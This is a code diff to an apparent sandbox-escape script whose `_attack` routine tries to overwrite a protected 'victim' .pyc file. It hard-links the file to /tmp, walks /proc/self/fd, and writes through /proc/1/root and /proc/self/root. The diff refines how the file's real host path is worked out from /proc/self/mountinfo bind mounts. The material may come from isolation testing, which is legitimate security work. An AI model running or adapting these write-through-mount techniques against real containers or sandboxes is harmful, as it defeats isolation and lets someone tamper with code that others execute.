@@ -45,13 +45,16 @@ def _write(path, mode="wb"):
     return True
 
 
-def _host_root():
+def _host_path(victim):
+    """The victim's path on the host: the root (within its file system) of the bind holding it."""
+    best = None
     with open("/proc/self/mountinfo") as f:
         for line in f:
             p = line.split()
-            if p[4] == ROOT:
-                return p[3]
-    return None
+            if (victim + "/").startswith(p[4] + "/") and p[4].startswith(ROOT) \
+                    and (best is None or len(p[4]) > len(best[0])):
+                best = (p[4], p[3])
+    return None if best is None else best[1] + victim[len(best[0]):]
 
 
 def _userns_remount(victim):
@@ -125,12 +128,11 @@ def _attack():
         os.link(v, "/tmp/h.pyc")  # a writable name for the same inode
         return _write("/tmp/h.pyc", "r+b")
     _try("link-out", link_out)
-    host = _host_root()
-    print(f"PYC host-root {host}", flush=True)
+    host = _host_path(v)
+    print(f"PYC host-path {host}", flush=True)
     if host:
-        rel = v[len(ROOT):]
         for base in ("", "/proc/1/root", "/proc/self/root"):
-            _try(f"host-path{base}", lambda base=base: _write(base + host + rel, "r+b"))
+            _try(f"host-path{base}", lambda base=base: _write(base + host, "r+b"))
     for fd in os.listdir("/proc/self/fd"):
         try:
             target = os.readlink(f"/proc/self/fd/{fd}")
